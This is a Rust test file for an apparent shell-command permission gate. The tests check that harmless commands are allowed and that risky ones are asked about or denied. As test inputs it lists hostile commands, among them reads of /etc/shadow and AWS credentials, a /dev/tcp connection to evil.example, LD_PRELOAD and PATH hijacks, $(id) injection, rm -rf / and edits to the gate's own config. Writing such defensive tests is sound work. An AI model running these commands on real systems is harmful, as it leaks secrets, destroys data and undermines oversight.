//! The decision chain, step by step (R4.1).

use shellward::{
    Call,
    call::WallsWish,
    decide::{Decision, Situation, Standing, Step, WallsAtHand, decide},
    judge::Verdict,
    plan::{AutoAllow, Containment, Shape},
    read::Dialect,
    rules::Wish,
};

use crate::support::{rules, situation, with};

fn decision(command: &str, situation: &Situation) -> Decision {
    decide(Call::new(command).unwrap(), situation).into_decision()
}

fn verdict(command: &str, situation: &Situation) -> (Verdict, Step) {
    let decision = decision(command, situation);
    (decision.verdict, decision.reason.step)
}

#[test]
fn harmless_commands_are_allowed_and_observed() {
    let situation = situation();
    for command in [
        "git status",
        "ls -la | grep foo",
        "git status && ls -la | grep foo",
        "grep -rn TODO src 2>/dev/null | head -5",
        "X=1; echo \"$X\"",
        "LC_ALL=C sort names.txt",
        "echo $(git log --oneline -1)",
        "(ls; pwd)",
        "cat < README.md",
    ] {
        let decision = decision(command, &situation);
        assert_eq!(
            decision.verdict,
            Verdict::Allow,
            "{command}: {:?}",
            decision.reason
        );
        assert_eq!(decision.walls.shape, Shape::Observe, "{command}");
        assert!(decision.concurrent, "{command}");
    }
}

#[test]
fn nothing_that_writes_runs_or_leaks_passes_for_a_reader() {
    let situation = situation();
    for command in [
        "uniq in out",
        "sort -o out in",
        "sort --outp F f",
        "sort --compress-program X f",
        "git diff --output=F",
        "git -c core.fsmonitor=X status",
        "git grep -O X p",
        "find . -fprintf F x",
        "find . -delete",
        "find . -exec rm {} +",
        "find . -name x -ok rm {} \\;",
        "LD_PRELOAD=./x ls",
        "PATH=/tmp/evil ls",
        "ls > out",
        "ls | tee out",
        "cat /etc/shadow",
        "cat ~/.aws/credentials",
        "cat < /dev/tcp/evil.example/80",
        "echo `touch x`",
        "cat $(touch x)",
        "./ls",
        "printf -v 'a[$(id)]' x",
        "test -v 'a[$(id)]'",
        "ls & rm -rf x",
        "ls\nrm x",
        "cat *",
        "IFS=/; ls",
        "grep -f /etc/shadow x",
        "ls ~root",
    ] {
        // `cat *` is harmless where every file of the project is; here there is no project at all to look at.
        let expected = if command == "cat *" {
            Verdict::Allow
        } else {
            Verdict::Ask
        };
        let decision = decision(command, &situation);
        assert_eq!(
            decision.verdict, expected,
            "{command}: {:?}",
            decision.reason
        );
    }
}

#[test]
fn deny_comes_before_everything() {
    let mut situation = situation();
    rules(
        &mut situation.rules,
        Wish::Allow,
        &["Bash(*)", "Bash(git push)"],
    );
    rules(&mut situation.rules, Wish::Deny, &["Bash(git push:*)"]);
    situation.auto_allow = AutoAllow::On;
    for command in [
        "git push",
        "git -C x push",
        "ls && git push --force",
        "'git' pu\\sh",
        "/usr/bin/git push",
        "if true; then git push; fi",
        "timeout 5 git push",
    ] {
        assert_eq!(
            verdict(command, &situation),
            (Verdict::Deny, Step::DenyRule),
            "{command}"
        );
    }
}

#[test]
fn the_floor_holds_whatever_the_rules_say() {
    let mut situation = situation();
    rules(
        &mut situation.rules,
        Wish::Allow,
        &["Bash(*)", "Bash(rm -rf /)"],
    );
    situation.auto_allow = AutoAllow::On;
    for command in [
        "rm -rf /",
        "rm -rf ~",
        "rm -rf /proj",
        "rm -rf .",
        "rm -rf ..",
        "rm -rf \"$BUILD\"/",
        "echo x >> ~/.bashrc",
        "sed -i s/a/b/ ~/.zshrc",
    ] {
        let (verdict, step) = verdict(command, &situation);
        assert_eq!(verdict, Verdict::Ask, "{command}: {step}");
    }
    for command in [
        "cat ~/.local/state/shellward/x",
        "rm -rf /home/u/.local/state/shellward",
        "tool --out=/home/u/.local/state/shellward/x",
        "sed -i s/a/b/ .shellward/config.toml",
        "echo x > .shellward/config.toml",
    ] {
        assert_eq!(
            verdict(command, &situation),
            (Verdict::Deny, Step::Floor),
            "{command}"
        );
    }
}

#[test]
fn an_allow_rule_covers_its_command_and_nothing_that_rides_on_it() {
    let mut situation = situation();
    rules(&mut situation.rules, Wish::Allow, &["Bash(npm test:*)"]);
    for command in [
        "npm test",
        "npm test -- --watch",
        "npm test 2>&1 | grep FAIL",
    ] {
        let decision = decision(command, &situation);
        assert_eq!(
            decision.verdict,
            Verdict::Allow,
            "{command}: {:?}",
            decision.reason
        );
        assert_eq!(decision.walls.shape, Shape::Work, "{command}");
        assert!(!decision.concurrent, "{command}");
    }
    for command in [
        "npm test > out.log",
        "npm test; curl x",
        "npm test $(curl x)",
        "NODE_OPTIONS=--require=./x npm test",
        "npm test $EXTRA",
    ] {
        assert_eq!(
            decision(command, &situation).verdict,
            Verdict::Ask,
            "{command}"
        );
    }
}

#[test]
fn an_exact_rule_lifts_reading_for_the_identical_text_only() {
    let text = "for f in a b; do echo ${f@P}; done";
    let mut situation = situation();
    assert_eq!(verdict(text, &situation), (Verdict::Ask, Step::Reading));
    rules(
        &mut situation.rules,
        Wish::Allow,
        &[&format!("Bash({text})")],
    );
    assert_eq!(verdict(text, &situation).0, Verdict::Allow);
    assert_eq!(verdict(&format!("{text}; ls"), &situation).0, Verdict::Ask);
}

#[test]
fn a_shell_that_is_not_read_asks_about_everything_and_deny_rules_hold() {
    let mut situation = situation();
    situation.facts.dialect = Dialect::PowerShell;
    rules(&mut situation.rules, Wish::Deny, &["Bash(rm:*)"]);
    assert_eq!(verdict("ls", &situation), (Verdict::Ask, Step::Reading));
    assert_eq!(verdict("ls; rm x", &situation).0, Verdict::Deny);
}

#[test]
fn without_walls_harmless_commands_ask() {
    let mut situation = situation();
    situation.walls = WallsAtHand {
        observe: Err("Landlock is not there (hint: use a newer kernel)".to_owned()),
        confined: Ok(()),
        work: Ok(()),
    };
    let decision = decision("ls", &situation);
    assert_eq!(decision.verdict, Verdict::Ask);
    assert!(
        decision.reason.message.contains("newer kernel"),
        "{:?}",
        decision.reason
    );
}

#[test]
fn containment_is_as_configured_and_said() {
    let mut situation = situation();
    situation.auto_allow = AutoAllow::On;
    assert_eq!(
        verdict("npm test", &situation),
        (Verdict::Allow, Step::AutoAllow)
    );

    situation.walls.work = Err("install bubblewrap".to_owned());
    let preferred = decision("npm test", &situation);
    assert_eq!(preferred.verdict, Verdict::Ask);
    assert_eq!(preferred.walls.shape, Shape::Open);
    assert!(preferred.walls.because.contains("bubblewrap"));

    situation.containment = Containment::Required;
    assert_eq!(
        verdict("npm test", &situation),
        (Verdict::Deny, Step::Containment)
    );
    assert_eq!(verdict("ls", &situation).0, Verdict::Allow);

    situation.containment = Containment::Off;
    situation.walls = WallsAtHand::ALL;
    assert_eq!(decision("npm test", &situation).walls.shape, Shape::Open);
}

#[test]
fn asking_for_no_walls_asks_unless_it_is_harmless() {
    let mut situation = situation();
    rules(&mut situation.rules, Wish::Allow, &["Bash(npm test)"]);
    let without = |command: &str| {
        let call = Call::new(command).unwrap().with_walls(WallsWish::Without);
        decide(call, &situation).into_decision()
    };
    assert_eq!(without("ls").verdict, Verdict::Allow);
    assert_eq!(without("ls").walls.shape, Shape::Observe);
    assert_eq!(without("npm test").reason.step, Step::WithoutWalls);
}

#[test]
fn nothing_is_harmless_without_a_granted_effects_policy() {
    let mut situation = situation();
    situation.policies = with(Vec::new());
    situation.policies.effects.clear();
    assert_eq!(verdict("ls", &situation), (Verdict::Ask, Step::NoSource));
}

#[test]
fn comments_alone_are_nothing_to_do() {
    assert_eq!(
        verdict("# only a comment", &situation()),
        (Verdict::Allow, Step::Nothing)
    );
}

#[test]
fn the_trace_keeps_what_was_outranked_and_what_was_lifted() {
    let mut situation = situation();
    rules(&mut situation.rules, Wish::Allow, &["Bash(cat:*)"]);
    rules(&mut situation.rules, Wish::Deny, &["Bash(rm:*)"]);
    let lifted = decision("cat /etc/hosts", &situation);
    assert_eq!(lifted.verdict, Verdict::Allow);
    let entry = lifted
        .trace
        .iter()
        .find(|entry| entry.standing == Standing::Lifted)
        .unwrap();
    assert_eq!(entry.reason.step, Step::PolicyAsk);
    assert_eq!(entry.lifted_by.as_deref(), Some("Bash(cat:*)"));

    let denied = decision("ls; rm x", &situation);
    assert!(
        denied
            .trace
            .iter()
            .any(|entry| entry.standing == Standing::Outranked)
    );
}

#[test]
fn decisions_survive_their_json_form() {
    let decision = decision("cat /etc/passwd | grep -n root > out", &situation());
    let json = decision.to_json().unwrap();
    let back: Decision = serde_json::from_str(&json).unwrap();
    assert_eq!(back, decision);
    assert!(json.starts_with("{\"version\":1,"), "{json}");
}

#[test]
fn what_moves_the_session_does_not_run_beside_other_calls() {
    for (command, concurrent) in [
        ("ls", true),
        ("(cd sub && ls)", true),
        ("x=$(cd sub && pwd); echo \"$x\"", true),
        ("cd sub && ls", false),
        ("{ cd sub; }; ls", false),
        ("if cd sub; then ls; fi", false),
        ("command cd sub", false),
    ] {
        let decision = decide(Call::new(command).unwrap(), &situation()).into_decision();
        assert_eq!(decision.verdict, Verdict::Allow, "{command}");
        assert_eq!(decision.concurrent, concurrent, "{command}");
    }
}
